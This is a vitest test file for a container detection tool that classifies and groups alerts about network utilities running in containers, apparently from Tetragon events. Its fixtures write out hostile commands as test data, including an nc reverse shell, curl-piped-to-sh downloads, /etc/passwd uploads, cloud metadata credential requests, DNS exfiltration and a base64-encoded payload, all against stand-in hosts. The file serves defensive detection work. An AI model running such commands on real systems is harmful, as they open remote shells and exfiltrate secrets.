import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { INDICATORS } from "../../src/detection/indicators.js";
import type { ExecEvent, Signal } from "../../src/model.js";
import {
  groupKey,
  groupWhere,
  REASON_CLASSES,
  reasonClass,
  reasonClasses,
  workloadKey,
} from "../../src/signals/group-key.js";
import { cappedNote, repeatNote } from "../../src/signals/ledger.js";
import { findingOf, run, session, withAncestors } from "../detection/factory.js";
import { ROOT } from "../support/cli.js";
import { makeSignal } from "./signal-factory.js";

/** One event per reason template of src/detection/rule.ts, and the class its reason must get. */
const TEMPLATES: [cls: string, event: ExecEvent][] = [
  ["executes-command", run("/usr/bin/nc", "-e", "/bin/sh", "203.0.113.7", "4444")],
  ["output-executed", session("sh", "-c", "curl -s http://203.0.113.7/i.sh | sh")],
  [
    "output-executed",
    withAncestors(run("/usr/bin/curl", "-s", "http://203.0.113.7/i.sh"), [
      { name: "sh", path: "/bin/sh", args: ["-c", "curl -s http://203.0.113.7/i.sh | sh"] },
    ]),
  ],
  ["output-executed", session("sh", "-c", "$(curl -s http://203.0.113.7/c)")],
  ["relays-shell", session("sh", "-c", "sh -i 2>&1 | nc 203.0.113.7 4444")],
  ["download-executed", session("sh", "-c", "wget -O /app/a http://203.0.113.7/a; /app/a")],
  ["credential-endpoint", run("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/iam/")],
  ["dns-exfiltration", run("/usr/bin/dig", "MZXW6YTBOI3DEMRZGQ4TKNZYHE.evil.example")],
  ["dns-exfiltration", run("/usr/bin/curl", "http://MZXW6YTBOI3DEMRZGQ4TKNZYHE.evil.example/")],
  ["upload", run("/usr/bin/curl", "-T", "/etc/passwd", "http://203.0.113.7/")],
  ["upload", run("/usr/bin/curl", "-d", "@-", "http://203.0.113.7/")],
  ["upload", run("/usr/bin/curl", "-d", "$(cat /etc/passwd)", "http://203.0.113.7/")],
  ["upload", run("/usr/bin/wget", "http://203.0.113.7/?d=$(env)")],
  ["upload", run("/usr/bin/scp", "/etc/passwd", "u@203.0.113.7:/x")],
  ["upload", session("sh", "-c", "nc 203.0.113.7 4444 < /etc/passwd")],
  ["writes-to-suspicious-location", run("/usr/bin/wget", "-O", "/tmp/x", "http://203.0.113.7/x")],
  ["writes-to-suspicious-location", session("sh", "-c", "nc -l 4444 > /tmp/x")],
  ["runs-from-suspicious-location", run("/tmp/curl", "http://203.0.113.7/")],
  [
    "ancestor-from-suspicious-location",
    withAncestors(run("/usr/bin/curl", "http://203.0.113.7/"), [{ path: "/tmp/.x/sh" }]),
  ],
  [
    "ancestor-from-suspicious-location",
    withAncestors(run("/usr/bin/curl", "http://203.0.113.7/"), [{ path: "/bin/sh" }, { path: "/dev/shm/x" }]),
  ],
  ["ran-in-container", run("/usr/bin/curl", "http://203.0.113.7/")],
  ["ran-in-exec-session", session("curl", "http://203.0.113.7/")],
  ["also-runs", session("sh", "-c", "curl http://203.0.113.7/; wget http://203.0.113.8/")],
  [
    "cut-short",
    session("sh", "-c", `${"echo $(".repeat(17)}curl -s http://203.0.113.5/x.sh | sh${")".repeat(17)}`),
  ],
  [
    "flat-scan",
    session("sh", "-c", `${"echo $(".repeat(17)}curl -s http://203.0.113.5/x.sh | sh${")".repeat(17)}`),
  ],
  ["benign-unread", session("sh", "-c", `${"true $(".repeat(17)}x${")".repeat(17)}; curl --version`)],
  ["glob-name", session("sh", "-c", "/???/???/c?rl http://203.0.113.7/")],
  ["encoded-script", session("sh", "-c", "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveA== | base64 -d | sh")],
  [
    "kubelet-api",
    run("/usr/bin/curl", "-sk", "-X", "POST", "https://10.0.1.5:10250/run/kube-system/p/c", "-d", "cmd=id"),
  ],
  ["renamed", run("/tmp/firewire", "-fsSL", "http://203.0.113.5/x")],
  [
    "expected-location",
    withAncestors(run("/usr/bin/curl", "-fsS", "https://api.example.com/ping"), [
      { name: "run", path: "/run/service/pinger/run" },
      { name: "s6-supervise", path: "/package/admin/s6/command/s6-supervise" },
    ]),
  ],
];

// The rule writes these only when its own analysis fails (a bug, or a budget): the templates, filled in.
const FAILURE_REASONS = [
  "curl ran in a container; the command lines of its ancestors could not be analysed (too deep)",
  "curl (download tool) ran in a container; its command line could not be analysed (boom)",
  "curl (download tool) ran in a container; its arguments could not be analysed (boom)",
];

/** Where src/detection/rule.ts writes a reason: `add(severity, …)`, `reasons.push/unshift`, `reasons = [`/`reasons: [`. */
function reasonSites(source: string): number {
  return (
    source.match(
      /\badd\("(?:low|medium|high|critical)",|reasons\.(?:push|unshift)\(|reasons(?: =|:) \[\s*`/g,
    ) ?? []
  ).length;
}

describe("reason classes", () => {
  it.each(TEMPLATES)("%s: every reason of the event has a class, and this one among them", (cls, event) => {
    const finding = findingOf(event);
    const classes = finding.reasons.map(reasonClass);
    expect(
      classes.filter((c) => c.startsWith("other-")),
      finding.reasons.join("\n"),
    ).toEqual([]);
    expect(classes).toContain(cls);
  });

  it("classes the rule's own failure reasons", () => {
    expect(FAILURE_REASONS.map(reasonClass)).toEqual(["unanalysable", "unanalysable", "unanalysable"]);
  });

  it("every class of the table has an example above, and every reason site of rule.ts is counted", () => {
    // The Tetragon notes' classes have their examples in the last block of this file.
    const notes = ["outside-init-tree", "fileless", "setuid", "raised-privileges", "capabilities"];
    const covered = new Set([...TEMPLATES.map(([cls]) => cls), "unanalysable", ...notes]);
    expect(REASON_CLASSES.map(([cls]) => cls).filter((cls) => !covered.has(cls))).toEqual([]);
    // 19 rows of the severity ladder (src/detection/indicators.ts) + in rule.ts: also-runs, the
    // ancestors' failure, the unanalysable and unreadable-arguments findings, the cut-short finding's list. A new reason template (a new row,
    // or a new site in rule.ts) changes this count: give it a class in REASON_CLASSES and an example in
    // TEMPLATES.
    const source = readFileSync(join(ROOT, "src/detection/rule.ts"), "utf8");
    expect(reasonSites(source) + INDICATORS.length, "reason sites of the rule").toBe(24);
  });

  it("an unknown reason is a class of its own, stable, and never merges with another", () => {
    expect(reasonClass("curl does something new")).toMatch(/^other-[0-9a-f]{12}$/);
    expect(reasonClass("curl does something new")).toBe(reasonClass("curl does something new"));
    expect(reasonClass("curl does something new")).not.toBe(reasonClass("curl does another thing"));
  });

  it("ignores the ledger's own notes", () => {
    const signal = makeSignal(1, "high", { reasons: ["curl (download tool) ran in a container"] });
    const noted = {
      ...signal,
      reasons: [...signal.reasons, repeatNote(42, "2026-01-01T00:00:00.000Z"), cappedNote(5)],
    };
    expect(reasonClasses(noted)).toBe("ran-in-container");
    expect(groupKey(noted)).toBe(groupKey(signal));
  });
});

function eks(overrides: Partial<Signal["workload"]>, container = "api"): Signal {
  return makeSignal(1, "high", {
    workload: { platform: "eks", cluster: "prod", namespace: "payments", ...overrides },
    container: { id: "c0ffee", name: container, image: "x" },
  });
}

describe("groupKey", () => {
  it("is rule | where | utility | reason classes", () => {
    const signal = makeSignal(1, "high", {
      reasons: [
        "curl downloads into a writable location (/tmp): /tmp/x",
        "curl (download tool) ran in a container",
      ],
      workload: { platform: "ecs", cluster: "prod", service: "checkout", task: "arn:aws:ecs:…/task/1" },
    });
    expect(groupKey(signal)).toBe(
      "net_util_in_container|ecs-service/123456789012/prod/checkout|curl|ran-in-container+writes-to-suspicious-location",
    );
  });

  it("keeps a Deployment's group across a rollout (new ReplicaSet, new pods)", () => {
    const before = eks({ pod: "web-5d8f7c9b4-x7k2p", owner: { kind: "ReplicaSet", name: "web-5d8f7c9b4" } });
    const after = eks({
      pod: "web-6c9b8d7f5-q2w9z",
      owner: { kind: "ReplicaSet", name: "web-6c9b8d7f5" },
      labels: { "pod-template-hash": "6c9b8d7f5" },
    });
    expect(groupWhere(before)).toBe("k8s/123456789012/prod/payments/Deployment/web");
    expect(groupKey(after)).toBe(groupKey(before));
  });

  it("names the controller: StatefulSet, DaemonSet, a CronJob's Job", () => {
    expect(groupWhere(eks({ owner: { kind: "StatefulSet", name: "db" } }))).toBe(
      "k8s/123456789012/prod/payments/StatefulSet/db",
    );
    expect(groupWhere(eks({ owner: { kind: "Job", name: "report-29415720" } }))).toBe(
      "k8s/123456789012/prod/payments/CronJob/report",
    );
    expect(groupWhere(eks({ owner: { kind: "Job", name: "migrate" } }))).toBe(
      "k8s/123456789012/prod/payments/Job/migrate",
    );
  });

  it("falls back to the ECS family, then the pod or task and container, then the container, then the stream", () => {
    expect(
      groupWhere(makeSignal(1, "high", { workload: { platform: "ecs", cluster: "c", family: "api" } })),
    ).toBe("ecs-family/123456789012/c/api");
    expect(groupWhere(eks({ pod: "api-1" }))).toBe("pod/123456789012/prod/payments/api-1/api");
    expect(
      groupWhere(makeSignal(1, "high", { workload: { platform: "ecs", cluster: "c", task: "t1" } })),
    ).toBe("task/123456789012/c/t1/api");
    const docker = makeSignal(1, "high", { workload: { platform: "docker" } });
    expect(groupWhere(docker)).toBe(
      "container/123456789012/%2faws%2fcontainerinsights%2fprod%2fapplication/api",
    );
    const bare = makeSignal(1, "high", {
      workload: { platform: "unknown" },
      container: { id: null, name: null, image: null },
    });
    expect(groupWhere(bare)).toBe(
      "stream/123456789012/%2faws%2fcontainerinsights%2fprod%2fapplication/tetragon-1",
    );
  });

  it("separates a different utility, a new reason class, another workload; not another severity or command line", () => {
    const base = eks({ owner: { kind: "Deployment", name: "web" } });
    expect(groupKey({ ...base, utility: { name: "wget", category: "download" } })).not.toBe(groupKey(base));
    expect(
      groupKey({ ...base, reasons: [...base.reasons, "curl relays an interactive shell (sh -i | curl)"] }),
    ).not.toBe(groupKey(base));
    expect(groupKey({ ...base, workload: { ...base.workload, namespace: "other" } })).not.toBe(
      groupKey(base),
    );
    expect(groupKey({ ...base, severity: "critical" })).toBe(groupKey(base));
    expect(groupKey({ ...base, process: { ...base.process, args: ["http://elsewhere"] } })).toBe(
      groupKey(base),
    );
  });

  it("cannot be forged through a separator in a name, and stays bounded", () => {
    const a = eks({ namespace: "a/b", pod: "c" });
    const b = eks({ namespace: "a", pod: "b/c" });
    expect(groupKey(a)).not.toBe(groupKey(b));
    expect(groupKey(eks({ pod: "x|y" }))).not.toContain("x|y");
    const long = groupKey(eks({ pod: "p".repeat(2000) }));
    expect(long).toMatch(/^net_util_in_container\|sha256:[0-9a-f]{64}$/);
    // Bounded in bytes, not characters: DynamoDB limits a partition key to 2048 bytes.
    expect(groupKey(eks({ pod: "\u{1F600}".repeat(200) }))).toMatch(/^net_util_in_container\|sha256:/);
    expect(workloadKey(eks({ pod: "\u{1F600}".repeat(200) }))).toMatch(/^workload\|sha256:[0-9a-f]{64}$/);
    expect(workloadKey(eks({ pod: "api-1" }))).toBe(groupWhere(eks({ pod: "api-1" })));
  });
});

describe("reason classes of the Tetragon parser's notes", () => {
  it.each([
    [
      "curl runs outside the container's init tree: it was started by an exec into the container (kubectl exec, crictl or docker exec, nsenter)",
      "outside-init-tree",
    ],
    [
      "x has no link on any file system (fileless execution: memfd_create or deleted after start)",
      "fileless",
    ],
    ["nc is set-user-ID: it runs as uid 0", "setuid"],
    ["nc raised its privileges at exec (uid 1000 -> 0)", "raised-privileges"],
    ["nc runs with effective uid 0 although its uid is 1000", "raised-privileges"],
    ["nc runs with the capabilities CAP_NET_RAW", "capabilities"],
  ])("%s -> %s", (reason, cls) => {
    expect(reasonClass(reason)).toBe(cls);
  });
});
